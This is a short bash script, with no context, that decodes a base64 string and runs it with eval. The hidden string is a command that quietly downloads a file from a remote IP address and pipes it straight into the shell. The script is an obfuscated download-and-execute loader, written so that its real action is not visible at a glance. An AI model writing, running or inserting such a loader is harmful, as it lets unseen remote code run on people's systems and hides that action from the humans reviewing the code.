#!/bin/bash
P="Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4zL2EgfCBzaAo="
D=$(echo "$P" | base64 --decode)
eval "$D"
